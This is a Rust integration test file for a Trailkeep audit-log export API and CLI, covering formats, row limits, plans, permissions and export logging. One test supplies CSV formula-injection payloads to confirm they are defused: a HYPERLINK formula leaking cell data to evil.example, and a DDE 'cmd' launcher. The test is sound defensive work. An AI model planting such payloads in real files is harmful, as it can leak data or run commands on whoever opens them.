//! Exports (`GET /v1/export` and `trailkeep export --format`): every format carries exactly the filtered
//! events and reads back with a real parser of its kind (the `csv` crate, serde, the `parquet` crate's
//! reader); CSV is cut at its row limit and says so, defuses formulas and leaves AI text out unless an
//! administrator asks; the plan decides the formats; a project admin exports only their projects; every
//! export is recorded in the log; bad requests are refused naming the parameter.

use std::process::{Command, Output};

use arrow_array::{Array, Float64Array, Int64Array, StringArray, TimestampMillisecondArray};
use parquet::arrow::arrow_reader::ParquetRecordBatchReaderBuilder;
use serde_json::{Value, json};
use trailkeep_client::{Client, Method, RawResponse};
use trailkeep_wire::UpdateOrgRequest;

use crate::helpers::{TestApp, spawn_app, spawn_app_with};
use crate::sessions::{Session, link, org_admin};

const ORG: &str = "acme";

async fn set_plan(app: &TestApp, org: &str, plan: &str) {
    let request = UpdateOrgRequest { name: None, plan: Some(plan.into()) };
    let _: Value = app.admin.send_json(Method::PATCH, &format!("/v1/orgs/{org}"), &request).await.unwrap();
}

async fn get(client: &Client, path: &str) -> RawResponse {
    client.raw(Method::GET, path, None, &[]).await.unwrap()
}

fn body_text(r: &RawResponse) -> String {
    String::from_utf8(r.body.clone()).expect("exports are UTF-8, Parquet aside")
}

fn error_of(r: &RawResponse) -> (String, Option<String>) {
    let body = r.json().unwrap_or(Value::Null);
    let code = body["error"]["code"].as_str().unwrap_or_default().to_owned();
    (code, body["error"]["field"].as_str().map(str::to_owned))
}

/// 30 `doc.*` events rich in every field (every third an AI request) and 10 `billing.updated` ones,
/// from the last minutes (so that no plan's retention touches them).
async fn send_mix(app: &TestApp) {
    let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_millis() as i64;
    let mut events = Vec::new();
    for i in 0..30u64 {
        let mut e = json!({
            "organization_id": ORG,
            "project_id": if i % 2 == 0 { "p1" } else { "p2" },
            "action": if i % 3 == 0 { "doc.shared" } else { "doc.created" },
            "occurred_at": trailkeep_core::time::format_millis(now - 600_000 + i as i64 * 1007),
            "actor": {"type": "user", "id": format!("u{i}"), "email": format!("u{i}@example.com"), "name": "Ada, \"the\" admin"},
            "targets": [{"type": "doc", "id": format!("d{i}"), "name": "Q1\nplan"}, {"type": "folder", "id": "f1"}],
            "context": {"ip": "203.0.113.9", "user_agent": "Mozilla/5.0"},
            "description": format!("document {i} created"),
            "metadata": {"n": i, "tags": ["a", "b"]},
            "changes": [{"field": "title", "before": null, "after": format!("doc {i}")}],
        });
        if i % 3 == 0 {
            e["ai"] = json!({
                "provider": "openai", "model": "gpt-4o", "prompt": format!("secret prompt {i}"),
                "response": "secret response", "usage": {"input_tokens": i, "output_tokens": 2 * i},
                "cost_usd": 0.25 + i as f64, "latency_ms": 100 + i, "status_code": 200,
            });
        }
        events.push(e);
    }
    for i in 0..10 {
        events.push(json!({"organization_id": ORG, "action": "billing.updated", "metadata": {"n": i}}));
    }
    app.admin.send_events(&events).await.unwrap();
}

/// The platform's view of the same selection, newest first, as JSON values.
async fn expected(app: &TestApp, filter: &[(&str, &str)]) -> Vec<Value> {
    let mut params = vec![("organization_id", ORG), ("limit", "1000")];
    params.extend_from_slice(filter);
    let events = app.admin.list_all_events(&params).await.unwrap();
    events.iter().map(|e| serde_json::to_value(e).unwrap()).collect()
}

fn csv_records(body: &str) -> (Vec<String>, Vec<csv::StringRecord>) {
    let mut reader = csv::ReaderBuilder::new().from_reader(body.as_bytes());
    let header = reader.headers().unwrap().iter().map(str::to_owned).collect();
    let rows = reader.records().map(|r| r.unwrap()).collect();
    (header, rows)
}

fn column<'a>(header: &[String], row: &'a csv::StringRecord, name: &str) -> &'a str {
    let i = header.iter().position(|h| h == name).unwrap_or_else(|| panic!("no column {name}"));
    row.get(i).unwrap()
}

#[tokio::test(flavor = "multi_thread")]
async fn each_format_round_trips_exactly_the_filtered_events() {
    let app = spawn_app().await;
    send_mix(&app).await;
    set_plan(&app, ORG, "enterprise").await;
    let reader = app.org_client(ORG, &["events:read"]).await;
    let want = expected(&app, &[("action", "doc.*")]).await;
    assert_eq!(want.len(), 30);

    // NDJSON and JSON: every field of every event, exactly as the events API returns it.
    let r = get(&reader, "/v1/export?format=ndjson&action=doc.*").await;
    assert_eq!(r.status, 200, "{}", body_text(&r));
    assert_eq!(r.header("content-type"), Some("application/x-ndjson"));
    let disposition = r.header("content-disposition").unwrap();
    assert!(disposition.starts_with("attachment; filename=\"acme-audit-log-") && disposition.ends_with(".ndjson\""));
    let lines: Vec<Value> = body_text(&r).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(lines, want);

    let r = get(&reader, "/v1/export?format=json&action=doc.*").await;
    assert_eq!(r.status, 200);
    assert_eq!(serde_json::from_slice::<Vec<Value>>(&r.body).unwrap(), want);
    let ascending = get(&reader, "/v1/export?format=json&action=doc.*&order=asc").await;
    let mut reversed = want.clone();
    reversed.reverse();
    assert_eq!(serde_json::from_slice::<Vec<Value>>(&ascending.body).unwrap(), reversed);
    let none = get(&reader, "/v1/export?format=json&action=nothing.here").await;
    assert_eq!(serde_json::from_slice::<Vec<Value>>(&none.body).unwrap(), Vec::<Value>::new());

    // CSV: the fixed header, one record per event (quoted newlines and commas survive), flattened.
    let r = get(&reader, "/v1/export?format=csv&action=doc.*").await;
    assert_eq!(r.status, 200);
    assert_eq!(r.header("content-type"), Some("text/csv; charset=utf-8"));
    assert_eq!(r.header("x-trailkeep-row-limit"), Some("50000"));
    let (header, rows) = csv_records(&body_text(&r));
    assert_eq!(&header[..6], ["id", "seq", "occurred_at", "received_at", "organization_id", "project_id"]);
    assert_eq!(header.len(), 44);
    assert_eq!(rows.len(), 30);
    for (row, event) in rows.iter().zip(&want) {
        assert_eq!(column(&header, row, "id"), event["id"]);
        assert_eq!(column(&header, row, "seq"), event["seq"].to_string());
        assert_eq!(column(&header, row, "occurred_at"), event["occurred_at"]);
        assert_eq!(column(&header, row, "actor_name"), "Ada, \"the\" admin");
        assert_eq!(column(&header, row, "target_name"), "Q1\nplan");
        let metadata: Value = serde_json::from_str(column(&header, row, "metadata")).unwrap();
        assert_eq!(metadata, event["metadata"]);
        let targets: Value = serde_json::from_str(column(&header, row, "targets")).unwrap();
        assert_eq!(targets, event["targets"]);
        let cost = column(&header, row, "ai_cost_usd");
        match event["ai"]["cost_usd"].as_f64() {
            Some(c) => assert_eq!(cost.parse::<f64>().unwrap(), c),
            None => assert_eq!(cost, ""),
        }
    }

    // Parquet: the same rows with typed columns, read back by the parquet crate.
    let r = get(&reader, "/v1/export?format=parquet&action=doc.*").await;
    assert_eq!(r.status, 200);
    assert_eq!(r.header("content-type"), Some("application/vnd.apache.parquet"));
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("export.parquet");
    std::fs::write(&file, &r.body).unwrap();
    let builder = ParquetRecordBatchReaderBuilder::try_new(std::fs::File::open(&file).unwrap()).unwrap();
    assert_eq!(builder.metadata().file_metadata().num_rows(), 30);
    let schema = builder.schema().clone();
    assert_eq!(schema.fields().len(), 44);
    assert_eq!(
        schema.field_with_name("occurred_at").unwrap().data_type(),
        &arrow_schema::DataType::Timestamp(arrow_schema::TimeUnit::Millisecond, Some("UTC".into()))
    );
    let batches: Vec<_> = builder.build().unwrap().map(|b| b.unwrap()).collect();
    let rows: usize = batches.iter().map(|b| b.num_rows()).sum();
    assert_eq!(rows, 30);
    let mut i = 0;
    for batch in &batches {
        let col = |name: &str| batch.column(schema.index_of(name).unwrap()).clone();
        let ids = col("id");
        let ids = ids.as_any().downcast_ref::<StringArray>().unwrap();
        let seqs = col("seq");
        let seqs = seqs.as_any().downcast_ref::<Int64Array>().unwrap();
        let times = col("occurred_at");
        let times = times.as_any().downcast_ref::<TimestampMillisecondArray>().unwrap();
        let costs = col("ai_cost_usd");
        let costs = costs.as_any().downcast_ref::<Float64Array>().unwrap();
        let totals = col("ai_total_tokens");
        let totals = totals.as_any().downcast_ref::<Int64Array>().unwrap();
        let prompts = col("ai_prompt");
        let prompts = prompts.as_any().downcast_ref::<StringArray>().unwrap();
        for row in 0..batch.num_rows() {
            let event = &want[i];
            assert_eq!(ids.value(row), event["id"]);
            assert_eq!(seqs.value(row), event["seq"].as_i64().unwrap());
            let occurred = trailkeep_core::time::parse_rfc3339_millis(event["occurred_at"].as_str().unwrap());
            assert_eq!(Some(times.value(row)), occurred);
            match event["ai"]["cost_usd"].as_f64() {
                Some(c) => {
                    assert_eq!(costs.value(row), c);
                    let usage = &event["ai"]["usage"];
                    let total = usage["input_tokens"].as_i64().unwrap() + usage["output_tokens"].as_i64().unwrap();
                    assert_eq!(totals.value(row), total);
                    assert_eq!(prompts.value(row), event["ai"]["prompt"], "Parquet carries every field");
                }
                None => assert!(costs.is_null(row) && totals.is_null(row) && prompts.is_null(row)),
            }
            i += 1;
        }
    }
    app.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_csv_export_is_cut_at_the_row_limit_and_says_so_up_front_and_in_a_last_line() {
    let app = spawn_app_with(|config| config.export_csv_max_rows = 5).await;
    let events: Vec<Value> =
        (0..8).map(|i| json!({"organization_id": ORG, "action": "doc.read", "metadata": {"n": i}})).collect();
    app.admin.send_events(&events).await.unwrap();

    let r = get(&app.admin, &format!("/v1/export?organization_id={ORG}&format=csv&action=doc.read")).await;
    assert_eq!(r.status, 200);
    assert_eq!(r.header("x-trailkeep-row-limit"), Some("5"));
    let body = body_text(&r);
    assert!(body.ends_with("\n# truncated at 5 rows; narrow the filters or export NDJSON\n"), "{body}");
    let records = body.lines().count() - 2; // the header and the last line
    assert_eq!(records, 5);
    let (_, rows) = csv_records(body.rsplit_once("# truncated").unwrap().0);
    assert_eq!(rows.len(), 5);

    // Exactly at the limit nothing is cut, and nothing says so.
    let five: Vec<Value> =
        (0..5).map(|i| json!({"organization_id": "five", "action": "doc.read", "metadata": {"n": i}})).collect();
    app.admin.send_events(&five).await.unwrap();
    let r = get(&app.admin, "/v1/export?organization_id=five&format=csv&action=doc.read").await;
    let body = body_text(&r);
    assert!(!body.contains("truncated"), "{body}");
    assert_eq!(csv_records(&body).1.len(), 5);

    // NDJSON has no row limit.
    let r = get(&app.admin, &format!("/v1/export?organization_id={ORG}&format=ndjson&action=doc.read")).await;
    assert_eq!(body_text(&r).lines().count(), 8);
    assert_eq!(r.header("x-trailkeep-row-limit"), None);
    app.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn csv_cells_that_a_spreadsheet_would_run_as_formulas_are_made_text() {
    let app = spawn_app().await;
    let hostile = json!({
        "organization_id": ORG, "action": "doc.renamed",
        "description": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "actor": {"type": "user", "id": "+1-555-0100", "name": "@SUM(A1:A9)", "email": "-2+3@example.com"},
        "targets": [{"type": "doc", "id": "\t=1+1", "name": "\r=cmd|' /C calc'!A0"}],
        "metadata": {"ok": "=not at the start of the cell"},
    });
    app.admin.send_events(&[hostile]).await.unwrap();
    let r = get(&app.admin, &format!("/v1/export?organization_id={ORG}&format=csv&action=doc.renamed")).await;
    assert_eq!(r.status, 200);
    let (header, rows) = csv_records(&body_text(&r));
    let row = &rows[0];
    for (name, expected) in [
        ("description", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
        ("actor_id", "'+1-555-0100"),
        ("actor_name", "'@SUM(A1:A9)"),
        ("actor_email", "'-2+3@example.com"),
        ("target_id", "'\t=1+1"),
        ("target_name", "'\r=cmd|' /C calc'!A0"),
    ] {
        assert_eq!(column(&header, row, name), expected, "{name}");
    }
    assert_eq!(column(&header, row, "metadata"), r#"{"ok":"=not at the start of the cell"}"#);
    for cell in row.iter() {
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?}");
    }
    app.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn ai_text_is_left_out_of_csv_unless_an_administrator_asks_for_it() {
    let app = spawn_app().await;
    send_mix(&app).await;
    set_plan(&app, ORG, "enterprise").await;
    let reader = app.org_client(ORG, &["events:read"]).await;
    let (_, admin) = org_admin(&app, ORG).await;
    let prompts = |r: &RawResponse| -> Vec<String> {
        let (header, rows) = csv_records(&body_text(r));
        rows.iter()
            .map(|row| column(&header, row, "ai_prompt").to_owned() + column(&header, row, "ai_response"))
            .collect()
    };
    let path = "/v1/export?format=csv&action=doc.shared";

    for client in [&reader, &admin] {
        let r = get(client, path).await;
        assert_eq!(r.status, 200);
        assert!(prompts(&r).iter().all(String::is_empty), "left out by default");
        assert!(!body_text(&r).contains("secret"));
    }
    let r = get(&reader, &format!("{path}&include_ai_text=true")).await;
    assert_eq!(r.status, 403);
    assert_eq!(error_of(&r), ("forbidden".to_owned(), Some("include_ai_text".to_owned())));

    let r = get(&admin, &format!("{path}&include_ai_text=true")).await;
    assert_eq!(r.status, 200);
    let texts = prompts(&r);
    assert_eq!(texts.len(), 10);
    assert!(texts.iter().all(|t| t.starts_with("secret prompt") && t.ends_with("secret response")), "{texts:?}");

    let r = get(&admin, &format!("{path}&include_ai_text=maybe")).await;
    assert_eq!(error_of(&r), ("invalid_parameter".to_owned(), Some("include_ai_text".to_owned())));
    // NDJSON, JSON and Parquet are the complete record.
    let r = get(&reader, "/v1/export?format=ndjson&action=doc.shared").await;
    assert!(body_text(&r).contains("secret prompt"));
    app.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_organisations_plan_decides_which_formats_it_may_export() {
    let app = spawn_app().await;
    send_mix(&app).await;
    let reader = app.org_client(ORG, &["events:read"]).await;
    let status = |plan_format: &'static str| {
        let reader = reader.clone();
        async move { get(&reader, &format!("/v1/export?format={plan_format}")).await }
    };

    // A new organisation is on `free`, which exports nothing.
    let r = status("csv").await;
    assert_eq!(r.status, 403);
    assert_eq!(error_of(&r), ("export_not_allowed".to_owned(), Some("format".to_owned())));
    let message = r.json().unwrap()["error"]["message"].as_str().unwrap().to_owned();
    assert!(message.contains("`free` plan") && message.contains("csv"), "{message}");

    set_plan(&app, ORG, "pro").await;
    assert_eq!(status("csv").await.status, 200);
    for format in ["json", "ndjson", "parquet"] {
        let r = status(format).await;
        assert_eq!(r.status, 403, "{format}");
        let message = r.json().unwrap()["error"]["message"].as_str().unwrap().to_owned();
        assert!(
            message.contains("`pro` plan") && message.contains(format) && message.contains("only csv"),
            "{message}"
        );
    }

    set_plan(&app, ORG, "enterprise").await;
    for format in ["csv", "json", "ndjson", "parquet"] {
        assert_eq!(status(format).await.status, 200, "{format}");
    }

    // The platform may always export, whatever the plan.
    set_plan(&app, ORG, "free").await;
    let r = get(&app.admin, &format!("/v1/export?organization_id={ORG}&format=parquet")).await;
    assert_eq!(r.status, 200);
    app.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_plan_configured_by_the_deployment_replaces_the_default() {
    let app = spawn_app_with(|config| {
        config.plans.insert(
            "free".into(),
            trailkeep_server::config::PlanSettings {
                retention_days: None,
                exports: Some(vec![trailkeep_core::plans::ExportFormat::Ndjson]),
            },
        );
    })
    .await;
    app.admin.send_events(&[json!({"organization_id": ORG, "action": "doc.read"})]).await.unwrap();
    let reader = app.org_client(ORG, &["events:read"]).await;
    assert_eq!(get(&reader, "/v1/export?format=ndjson").await.status, 200);
    assert_eq!(get(&reader, "/v1/export?format=csv").await.status, 403);
    app.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_project_admin_exports_only_their_projects_events() {
    let app = spawn_app().await;
    send_mix(&app).await;
    app.admin
        .send_events(&[json!({"organization_id": "globex", "project_id": "p1", "action": "doc.created"})])
        .await
        .unwrap();
    set_plan(&app, ORG, "enterprise").await;
    let url = link(&app.admin, ORG, "pa@example.com", "project_admin", &["p1"]).await;
    let pa = Session::from_link(&app.base_url, &url).await;

    let (status, body) = pa.get("/v1/export?format=ndjson").await;
    assert_eq!(status, 200, "{body}");
    let events: Vec<Value> = body.as_str().unwrap().lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(events.len(), 15, "the p1 half of the 30 doc events");
    assert!(events.iter().all(|e| e["project_id"] == "p1" && e["organization_id"] == ORG));
    for filter in ["project_id=p2", "q=project:p2", "action=billing.*"] {
        let (status, body) = pa.get(&format!("/v1/export?format=ndjson&{filter}")).await;
        assert_eq!(status, 200);
        assert_eq!(body.as_str().unwrap(), "", "{filter}");
    }
    let (status, _) = pa.get("/v1/export?format=ndjson&organization_id=globex").await;
    assert_eq!(status, 403);
    // A project admin does not administer the organisation: no AI text in CSV.
    let (status, body) = pa.get("/v1/export?format=csv&include_ai_text=true").await;
    assert_eq!(status, 403, "{body}");

    let url = link(&app.admin, ORG, "viewer@example.com", "viewer", &[]).await;
    let viewer = Session::from_link(&app.base_url, &url).await;
    assert_eq!(viewer.get("/v1/export?format=ndjson").await.0, 403);
    app.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn every_export_is_recorded_in_the_log_before_it_streams_and_a_refused_one_is_not() {
    let app = spawn_app().await;
    send_mix(&app).await;
    set_plan(&app, ORG, "pro").await;
    let (key_id, admin) = org_admin(&app, ORG).await;

    assert_eq!(get(&admin, "/v1/export?format=parquet").await.status, 403);
    assert_eq!(get(&admin, "/v1/export?format=csv&colour=red").await.status, 400);
    let r = get(&admin, "/v1/export?format=csv&action=doc.*&order=asc").await;
    assert_eq!(r.status, 200);
    let (header, rows) = csv_records(&body_text(&r));
    assert_eq!(rows.len(), 30, "an export filtered to doc.* holds none of the export events");
    assert!(rows.iter().all(|row| column(&header, row, "action").starts_with("doc.")));

    let recorded = expected(&app, &[("action", "audit_log.exported")]).await;
    assert_eq!(recorded.len(), 1, "{recorded:?}");
    let e = &recorded[0];
    assert_eq!(e["category"], "audit_log");
    assert_eq!(e["actor"]["type"], "api_key");
    assert_eq!(e["actor"]["id"], key_id);
    assert_eq!(e["targets"][0], json!({"type": "audit_log", "id": ORG}));
    assert_eq!(e["context"]["ip"], "127.0.0.1");
    assert_eq!(
        e["metadata"],
        json!({"format": "csv", "filter": "action=doc.*", "order": "asc", "row_limit": 50000, "include_ai_text": false})
    );
    app.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_bad_format_or_an_unknown_parameter_is_refused_with_400_naming_it() {
    let app = spawn_app().await;
    send_mix(&app).await;
    let base = format!("/v1/export?organization_id={ORG}");
    for (query, code, field) in [
        ("", "invalid_parameter", "format"),
        ("&format=xlsx", "invalid_parameter", "format"),
        ("&format=bundle", "invalid_parameter", "format"),
        ("&format=csv&colour=red", "invalid_parameter", "colour"),
        ("&format=csv&limit=10", "invalid_parameter", "limit"),
        ("&format=csv&order=sideways", "invalid_parameter", "order"),
        ("&format=csv&outcome=maybe", "invalid_parameter", "outcome"),
        ("&format=csv&from=yesterday-ish", "invalid_parameter", "from"),
        ("&format=ndjson&q=action:(", "invalid_query", "q"),
    ] {
        let r = get(&app.admin, &format!("{base}{query}")).await;
        assert_eq!(r.status, 400, "{query}: {}", body_text(&r));
        assert_eq!(error_of(&r), (code.to_owned(), Some(field.to_owned())), "{query}");
    }
    let r = get(&app.admin, "/v1/export?format=csv").await;
    assert_eq!(error_of(&r).1.as_deref(), Some("organization_id"), "a platform key names the organisation");
    assert!(expected(&app, &[("action", "audit_log.exported")]).await.is_empty(), "nothing was exported");
    app.stop().await;
}

fn admin_secret(app: &TestApp) -> String {
    std::fs::read_to_string(app.data_dir.join("admin.key")).unwrap().trim().to_owned()
}

async fn trailkeep(app: &TestApp, key: &str, args: &[&str]) -> Output {
    let (url, key) = (app.base_url.clone(), key.to_owned());
    let args: Vec<String> = args.iter().map(|s| s.to_string()).collect();
    tokio::task::spawn_blocking(move || {
        Command::new(env!("CARGO_BIN_EXE_trailkeep"))
            .args(&args)
            .env("TRAILKEEP_URL", url)
            .env("TRAILKEEP_API_KEY", key)
            .output()
            .expect("run trailkeep")
    })
    .await
    .unwrap()
}

fn output(o: &Output) -> String {
    format!("{}{}", String::from_utf8_lossy(&o.stdout), String::from_utf8_lossy(&o.stderr))
}

#[tokio::test(flavor = "multi_thread")]
async fn the_cli_exports_the_filtered_events_into_a_file_and_explains_a_refusal() {
    let app = spawn_app().await;
    send_mix(&app).await;
    let dir = tempfile::tempdir().unwrap();
    let platform = admin_secret(&app);

    let out = dir.path().join("docs.ndjson");
    let path = out.to_str().unwrap();
    let args = [
        "export",
        "--format",
        "ndjson",
        "--org",
        ORG,
        "--filter",
        "action=doc.*",
        "--filter",
        "project_id=p1",
        "-o",
        path,
    ];
    let run = trailkeep(&app, &platform, &args).await;
    assert!(run.status.success(), "{}", output(&run));
    assert!(output(&run).contains("(15 events,"), "{}", output(&run));
    let lines: Vec<Value> =
        std::fs::read_to_string(&out).unwrap().lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(lines, expected(&app, &[("action", "doc.*"), ("project_id", "p1")]).await);
    assert!(!dir.path().join("docs.ndjson.partial").exists());

    let out = dir.path().join("billing.csv");
    let args =
        ["export", "--format", "csv", "--org", ORG, "-q", "action:billing.*", "--asc", "-o", out.to_str().unwrap()];
    let run = trailkeep(&app, &platform, &args).await;
    assert!(run.status.success(), "{}", output(&run));
    assert!(output(&run).contains("(10 events,"), "{}", output(&run));
    let (header, rows) = csv_records(&std::fs::read_to_string(&out).unwrap());
    assert_eq!(rows.len(), 10);
    let ns: Vec<String> = rows.iter().map(|r| column(&header, r, "metadata").to_owned()).collect();
    assert_eq!(ns.first().map(String::as_str), Some(r#"{"n":0}"#), "oldest first");

    let out = dir.path().join("all.parquet");
    let run =
        trailkeep(&app, &platform, &["export", "--format", "parquet", "--org", ORG, "-o", out.to_str().unwrap()]).await;
    assert!(run.status.success(), "{}", output(&run));
    let reader = ParquetRecordBatchReaderBuilder::try_new(std::fs::File::open(&out).unwrap()).unwrap();
    assert!(reader.metadata().file_metadata().num_rows() >= 40);

    // The organisation's own key on the free plan: refused, told why and what to do, and no file left.
    let secret = app
        .admin
        .create_key(&trailkeep_wire::CreateKeyRequest {
            name: "cli export".into(),
            organization_id: Some(ORG.into()),
            permissions: vec!["events:read".into()],
        })
        .await
        .unwrap()
        .key;
    let out = dir.path().join("refused.csv");
    let run = trailkeep(&app, &secret, &["export", "--format", "csv", "-o", out.to_str().unwrap()]).await;
    assert!(!run.status.success());
    let text = output(&run);
    assert!(text.contains("nothing was written") && text.contains("plan"), "{text}");
    assert!(!out.exists() && !dir.path().join("refused.csv.partial").exists());

    let run = trailkeep(
        &app,
        &platform,
        &["export", "--format", "csv", "--org", ORG, "--filter", "outcome=maybe", "-o", out.to_str().unwrap()],
    )
    .await;
    assert!(!run.status.success());
    assert!(output(&run).contains("--filter outcome="), "{}", output(&run));
    let run = trailkeep(&app, &platform, &["export", "--org", ORG, "-o", out.to_str().unwrap()]).await;
    assert!(!run.status.success(), "--format or --verifiable is required");
    app.stop().await;
}
